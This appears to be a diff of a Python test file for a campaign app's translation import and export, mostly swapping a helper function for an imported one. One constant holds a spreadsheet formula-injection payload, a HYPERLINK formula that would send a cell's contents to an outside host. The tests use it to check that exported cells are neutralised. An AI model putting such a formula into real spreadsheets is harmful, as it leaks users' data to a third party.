@@ -10,19 +10,16 @@ from pathlib import Path
 import pytest
 
 from campaign import messages
+from campaign.chunks import CHUNK
 from campaign.database import Database
 from campaign.keeping import erasure
 from campaign.messages import exchange, review, translations
 from campaign.messages.translations import Kept, Translation, TranslationError, text_sha256
 from campaign.text.flags import Flag
 from tests.conftest import APPROVAL_KEY, TODAY, Submit
+from tests.support.review import get
 
 EVIL = '=HYPERLINK("http://example.org/?"&A1,"Stay strong")'
-
-
-def stored(database: Database, identifier: str) -> messages.Message:
-    with database.read() as connection:
-        return messages.get(connection, identifier)
 
 
 def exported(database: Database, *, everything: bool = False) -> list[messages.Message]:
@@ -108,26 +105,26 @@ def test_no_cell_of_a_spreadsheet_is_a_formula(database, submit, tmp_path, text)
     (row,) = rows(file)
     assert row["text"] == f"'{text}"
     assert keep(database, exchange.read(come_back(file, {f"'{text}": "Harmless."}))) == Kept(1)
-    assert stored(database, identifier).translation == "Harmless."
+    assert get(database, identifier).translation == "Harmless."
 
 
 @pytest.mark.parametrize("separator", [",", ";", "\t"])
 @pytest.mark.parametrize("mark", ["", "\ufeff"])
 @pytest.mark.parametrize("end", ["\n", "\r\n"])
 def test_what_spreadsheets_do_to_a_file_is_tolerated(database, submit, tmp_path, separator, mark, end):
-    message = stored(database, submit(database).message)
+    message = get(database, submit(database).message)
     digest = text_sha256(message.text).upper()
     cells = [["ID", "Translation", "mine", "text_sha256"], [message.id, "Мы з табой.", "", digest], [""] * 4]
     file = tmp_path / "t.csv"
     file.write_bytes((mark + "".join(separator.join(row) + end for row in cells)).encode())
     assert keep(database, exchange.read(file)) == Kept(1)
-    assert stored(database, message.id).translation == "Мы з табой."
+    assert get(database, message.id).translation == "Мы з табой."
 
 
 def test_invisible_characters_are_taken_out(database, submit):
-    message = stored(database, submit(database).message)
+    message = get(database, submit(database).message)
     keep(database, [Translation("t:2", message.id, text_sha256(message.text), "a\u202eb\r\nc\u0000\ud800")])
-    assert stored(database, message.id).translation == "ab\nc"
+    assert get(database, message.id).translation == "ab\nc"
 
 
 def test_a_file_that_is_there_is_not_overwritten(database, submit, file):
@@ -185,7 +182,7 @@ def five(any_database: Database, submit: Submit) -> list[Translation]:
     """Five translations: of a message as it was, a changed one, an erased one, a foreign one, and of none."""
     good, changed, erased = (submit(any_database, f"Words number {n}.").message for n in range(3))
     foreign = submit(any_database, "Elsewhere.", campaign="another").message
-    texts = {i: text_sha256(stored(any_database, i).text) for i in (good, changed, erased, foreign)}
+    texts = {i: text_sha256(get(any_database, i).text) for i in (good, changed, erased, foreign)}
     cut = Flag("removed", "message", 0, 6)
     any_database.write(lambda c: review.redact(c, changed, cut, "olga", [APPROVAL_KEY], TODAY))
     any_database.write(lambda c: erasure.erase(c, erased, "erased by staff", TODAY))
@@ -207,7 +204,7 @@ def test_every_fault_is_named_and_then_nothing_is_imported(any_database, five):
     for line, words in zip(named, reasons, strict=True):
         assert words in line
     for entry in (good, changed, erased, foreign):
-        assert stored(any_database, entry.message).translation is None
+        assert get(any_database, entry.message).translation is None
     with pytest.raises(TranslationError, match="no message of this campaign"):
         keep(any_database, [unknown], skip_changed=True)
 
@@ -216,19 +213,19 @@ def test_what_was_changed_or_erased_since_can_be_left_out(any_database, five):
     good, changed, erased, *_ = five
     done = keep(any_database, [good, changed, erased], skip_changed=True)
     assert (done.number, len(done.left_out)) == (1, 2)
-    assert stored(any_database, good.message).translation == "Словы."
-    assert stored(any_database, changed.message).translation is None
+    assert get(any_database, good.message).translation == "Словы."
+    assert get(any_database, changed.message).translation is None
 
 
 def test_no_translation_is_longer_than_any_is(database, submit):
-    message = stored(database, submit(database).message)
+    message = get(database, submit(database).message)
     with pytest.raises(TranslationError, match=r"t:2: \w+: longer than 4000 characters; shorten it"):
         keep(database, [Translation("t:2", message.id, text_sha256(message.text), "x" * 4001)])
 
 
 def test_more_than_a_statement_holds(database, submit):
-    sent = [stored(database, submit(database, f"Words number {n}.").message) for n in range(3)]
-    strangers = [Translation(f"t:{n}", f"stranger{n}", "", "x") for n in range(translations.CHUNK * 2)]
+    sent = [get(database, submit(database, f"Words number {n}.").message) for n in range(3)]
+    strangers = [Translation(f"t:{n}", f"stranger{n}", "", "x") for n in range(CHUNK * 2)]
     entries = [Translation("t:0", m.id, text_sha256(m.text), "Словы.") for m in sent]
     with pytest.raises(TranslationError) as refusal:
         keep(database, [*entries[:1], *strangers, *entries[1:]])
